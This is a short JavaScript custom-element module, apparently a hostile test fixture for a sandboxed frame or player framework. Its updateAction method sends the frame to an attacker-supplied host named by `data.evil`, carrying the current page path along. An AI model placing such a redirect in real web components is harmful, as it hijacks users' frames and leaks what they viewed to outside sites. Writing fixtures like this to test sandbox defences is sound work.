// It tries to take its frame, and what it saw, to another site. `data.evil` is where to.
export default class extends HTMLElement {
  async load() {}
  async playAction() {}
  async updateAction({ data: { evil } }) {
    location.href = `${evil}/home?${location.pathname}`;
  }
  async stopAction() {}
  async dispose() {}
}
